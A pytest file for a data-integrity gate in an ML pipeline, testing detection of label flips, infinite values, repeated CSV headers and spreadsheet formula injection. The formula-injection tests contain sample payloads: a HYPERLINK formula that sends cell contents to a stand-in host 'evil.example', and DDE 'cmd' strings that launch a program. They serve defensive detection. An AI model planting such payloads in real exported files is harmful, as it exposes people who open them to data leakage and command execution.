"""Issue 21: data gates that are hard to evade and quiet on clean data.

One section per class of problem, each with inputs of its own; every test here failed on the code
before the fix (false alarms and 11% "likely mislabelled" rows on clean batches, targeted flips
unseen, ``inf`` crashing the forest, a repeated column name judged on the wrong copy, spreadsheet
formulas passing unseen).
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from airflow_mlsecops.demo.example_data import FEATURES, LABEL, credit_frame
from airflow_mlsecops.evidence.models import Severity, Verdict
from airflow_mlsecops.exceptions import GateError
from airflow_mlsecops.gates.base import GateOutcome
from airflow_mlsecops.gates.data_integrity import REPORT_FILE, check_integrity
from airflow_mlsecops.gates.data_integrity.cells import is_formula
from airflow_mlsecops.gates.data_validation import validate_data
from airflow_mlsecops.io.tabular import LoadedTable, load_table

# The demo's trusted reference (dags/data/credit_reference.csv: credit_frame(rows=3000, seed=1)).
DEMO_REFERENCE = Path(__file__).resolve().parents[2] / "dags" / "data" / "credit_reference.csv"


def _write(frame: pd.DataFrame, tmp_path: Path, name: str = "batch.csv") -> str:
    path = tmp_path / name
    frame.to_csv(path, index=False)
    return str(path)


def _check(frame: pd.DataFrame, tmp_path: Path, reference: str | Path = DEMO_REFERENCE, **kwargs: object) -> GateOutcome:
    kwargs.setdefault("label_column", LABEL)
    return check_integrity(_write(frame, tmp_path), str(reference), **kwargs)  # type: ignore[arg-type]


def _findings(outcome: GateOutcome) -> dict:
    return {f.id: f for f in outcome.result.findings}


def _report(outcome: GateOutcome) -> dict:
    return {c["id"]: c for c in json.loads(outcome.files[REPORT_FILE])["checks"]}


def _failed(outcome: GateOutcome) -> set[str]:
    return {f.id for f in outcome.result.failed_findings if f.severity is Severity.HIGH}


# ----------------------------------------------------------------------------- label flips: quiet on clean data


@pytest.mark.parametrize("seed", [106, 111, 7])
def test_clean_batches_pass_and_name_no_mislabelled_rows(tmp_path: Path, seed: int) -> None:
    """Seeds 106 and 111 (1000 rows against the demo's reference) failed the uncalibrated forest's
    check (estimated 4.9% and 3.9% flipped, significant); every clean batch had 11-15% of its rows
    listed as likely mislabelled by cleanlab."""
    outcome = _check(credit_frame(rows=1000, seed=seed), tmp_path)
    assert outcome.result.verdict is Verdict.PASSED, [f.message for f in outcome.result.failed_findings]
    report = _report(outcome)["integrity.label_flips"]
    assert report["status"] == "passed"
    assert report["rows_total"] == 0 and report["suspects_listed"] == 0
    assert outcome.result.metrics["label_issue_share"] == 0
    assert "Platt-calibrated" in report["model"]


def test_targeted_flips_away_from_one_class_are_caught(tmp_path: Path) -> None:
    """5% of the rows, all defaulters, relabelled as non-defaulters: the symmetric estimate, the old
    check's only one, stays under its limit."""
    batch = credit_frame(rows=2000, seed=31)
    defaulters = np.flatnonzero(batch[LABEL].to_numpy() == 1)
    flipped = np.random.default_rng(5).choice(defaulters, 100, replace=False)
    batch.loc[flipped, LABEL] = 0
    outcome = _check(batch, tmp_path, thresholds={"max_rows_reported": 1000})
    assert "integrity.label_flips" in _failed(outcome)
    report = _report(outcome)["integrity.label_flips"]
    assert report["estimated_flip_share"] < 0.03
    assert report["targeted_class"] == "1" and report["targeted_p_value"] < 0.001
    assert 0.03 < report["estimated_targeted_flip_share"] < 0.08
    listed = set(report["rows"])
    assert listed and all(batch.loc[r, LABEL] == 0 for r in listed)  # candidates: rows now labelled 0
    # about 3x the share of flipped rows among the rows labelled 0 (100 of about 1,600)
    assert len(listed & set(flipped.tolist())) / len(listed) > 0.15


def test_random_flips_are_still_caught(tmp_path: Path) -> None:
    batch = credit_frame(rows=2000, seed=32)
    flipped = np.random.default_rng(6).choice(len(batch), 200, replace=False)  # 10%
    batch.loc[flipped, LABEL] = 1 - batch.loc[flipped, LABEL]
    outcome = _check(batch, tmp_path)
    assert "integrity.label_flips" in _failed(outcome)
    assert 0.06 < _report(outcome)["integrity.label_flips"]["estimated_flip_share"] < 0.14


# ----------------------------------------------------------------------------- non-finite numbers


@pytest.mark.parametrize("value", [np.inf, -np.inf, 1e39])
def test_non_finite_numbers_are_a_finding_of_their_own_not_a_crash(tmp_path: Path, value: float) -> None:
    """``inf`` reached the forest, which raised: an internal error (exit 2) instead of a rejection."""
    batch = credit_frame(rows=1000, seed=41)
    batch["income"] = batch["income"].astype(float)
    batch.loc[[3, 500], "income"] = value
    outcome = _check(batch, tmp_path)
    assert outcome.error is None and outcome.result.verdict is Verdict.FAILED
    assert _failed(outcome) == {"integrity.non_finite"}
    finding = _findings(outcome)["integrity.non_finite"]
    assert finding.location.startswith("column income") and "rows 3, 500" in finding.location
    report = _report(outcome)
    assert report["integrity.non_finite"]["rows"] == [3, 500]
    assert report["integrity.label_flips"]["status"] == "passed"  # the model ran, on finite inputs
    assert report["integrity.out_of_range"]["features"]["income"]["rows_out"] == 0  # judged once, here


def test_infinity_in_a_csv_file_and_the_threshold(tmp_path: Path) -> None:
    batch = credit_frame(rows=1000, seed=42)
    text = batch.to_csv(index=False).splitlines()
    text[10] = text[10].replace(text[10].split(",")[2], "inf", 1)  # debt_ratio of data row 8
    path = tmp_path / "batch.csv"
    path.write_text("\n".join(text) + "\n")
    outcome = check_integrity(str(path), str(DEMO_REFERENCE), label_column=LABEL)
    assert outcome.result.verdict is Verdict.FAILED and _failed(outcome) == {"integrity.non_finite"}
    assert _report(outcome)["integrity.non_finite"]["columns"] == {
        "debt_ratio": {"+inf": 1, "-inf": 0, "too_large": 0, "rows": 1}
    }
    tolerant = check_integrity(str(path), str(DEMO_REFERENCE), label_column=LABEL, thresholds={"max_non_finite_share": 0.01})
    assert tolerant.result.verdict is Verdict.PASSED
    assert tolerant.result.policy["thresholds"]["max_non_finite_share"] == 0.01


def test_infinity_in_the_reference_does_not_break_the_checks(tmp_path: Path) -> None:
    reference = credit_frame(rows=2000, seed=43)
    reference["debt_ratio"] = reference["debt_ratio"].astype(float)
    reference.loc[7, "debt_ratio"] = np.inf
    outcome = _check(credit_frame(rows=1000, seed=44), tmp_path, reference=_write(reference, tmp_path, "ref.csv"))
    assert outcome.error is None and outcome.result.verdict is Verdict.PASSED, outcome.result.summary
    assert _report(outcome)["integrity.out_of_range"]["features"]["debt_ratio"]["reference_range"][1] < 10


# ----------------------------------------------------------------------------- repeated column names


def _duplicated_header_csv(tmp_path: Path) -> Path:
    """The batch with a second ``income`` column whose values are poisoned (x100)."""
    batch = credit_frame(rows=300, seed=51)
    frame = pd.concat([batch, (batch["income"] * 100).rename("income")], axis=1)
    path = tmp_path / "dup.csv"
    frame.to_csv(path, index=False)
    assert path.read_text().splitlines()[0].endswith(",defaulted,income")
    return path


def test_a_repeated_csv_header_is_refused_when_loaded(tmp_path: Path) -> None:
    path = _duplicated_header_csv(tmp_path)
    with pytest.raises(GateError, match=r"repeats the column name\(s\) 'income'"):
        load_table(str(path))


def test_the_validation_gate_refuses_a_repeated_header(tmp_path: Path) -> None:
    """GX judged the first ``income`` (in range) while pandas' loaders train on the poisoned copy."""
    suite = {
        "name": "income",
        "expectations": [
            {"type": "expect_column_values_to_be_between", "kwargs": {"column": "income", "min_value": 0, "max_value": 1e6}}
        ],
    }
    outcome = validate_data(str(_duplicated_header_csv(tmp_path)), suite)
    assert outcome.result.verdict is Verdict.ERROR
    assert "repeats the column name(s) 'income'" in outcome.result.summary


def test_the_integrity_gate_refuses_a_repeated_header(tmp_path: Path) -> None:
    outcome = check_integrity(str(_duplicated_header_csv(tmp_path)), str(DEMO_REFERENCE), label_column=LABEL)
    assert outcome.result.verdict is Verdict.ERROR
    assert "repeats the column name(s) 'income'" in outcome.result.summary


def test_a_frame_handed_over_with_repeated_labels_is_refused(tmp_path: Path) -> None:
    good = load_table(_write(credit_frame(rows=200, seed=52), tmp_path))
    frame = good.frame.copy()
    frame.columns = [*FEATURES[:-1], "age", LABEL]  # account_age_months relabelled as a second "age"
    table = LoadedTable(frame=frame, subject=good.subject, format=good.format, size_bytes=good.size_bytes)
    suite = {"name": "s", "expectations": [{"type": "expect_column_values_to_not_be_null", "kwargs": {"column": "age"}}]}
    validation = validate_data(table, suite)
    assert validation.result.verdict is Verdict.ERROR and "'age'" in validation.result.summary
    integrity = check_integrity(table, str(DEMO_REFERENCE), label_column=LABEL)
    assert integrity.result.verdict is Verdict.ERROR
    assert "repeats the column name(s) 'age'" in integrity.result.summary


# ----------------------------------------------------------------------------- spreadsheet formulas


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "@SUM(A1:A3)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "  =2*3",
        "\t=1",
        "\r=1",
        "- note",
        "+A1",
    ],
)
def test_formulas_are_recognised(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize(
    "cell",
    ["-5", "+5", "-1.5e-3", "+44 20 7946 0958", "+1 (202) 555-0143", "-", "2024-01-05", "a=b", "user@example.com", "", "x-5"],
)
def test_numbers_phone_numbers_and_text_are_not_formulas(cell: str) -> None:
    assert not is_formula(cell)


def _with_comments(rows: int, seed: int) -> pd.DataFrame:
    frame = credit_frame(rows=rows, seed=seed)
    frame["comment"] = [f"-{i % 7}" if i % 3 else f"+44 20 7946 {i:04d}" for i in range(rows)]
    return frame


def test_formula_cells_fail_the_gate_and_are_named(tmp_path: Path) -> None:
    reference = _write(_with_comments(2000, 61), tmp_path, "ref.csv")
    clean = _with_comments(1000, 62)
    assert _check(clean, tmp_path, reference=reference, thresholds={"ignore_columns": "comment"}).result.verdict is (
        Verdict.PASSED
    )
    poisoned = clean.copy()
    poisoned.loc[[10, 20], "comment"] = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1)"]
    outcome = _check(poisoned, tmp_path, reference=reference, thresholds={"ignore_columns": "comment"})
    assert _failed(outcome) == {"integrity.formula_injection"}  # ignore_columns does not exempt it
    finding = _findings(outcome)["integrity.formula_injection"]
    assert finding.location.startswith("column comment") and "rows 10, 20" in finding.location
    report = _report(outcome)["integrity.formula_injection"]
    assert report["columns"]["comment"]["rows"] == 2
    loosened = _check(
        poisoned, tmp_path, reference=reference, thresholds={"ignore_columns": "comment", "max_formula_share": 0.01}
    )
    assert loosened.result.verdict is Verdict.PASSED


def test_a_formula_header_fails_the_check(tmp_path: Path) -> None:
    batch = credit_frame(rows=500, seed=63)
    batch["=cmd|' /C calc'!A0"] = "x"
    outcome = _check(batch, tmp_path, thresholds={"ignore_columns": "=cmd|' /C calc'!A0"})
    assert _failed(outcome) == {"integrity.formula_injection"}
    assert _report(outcome)["integrity.formula_injection"]["formula_headers"] == ["=cmd|' /C calc'!A0"]
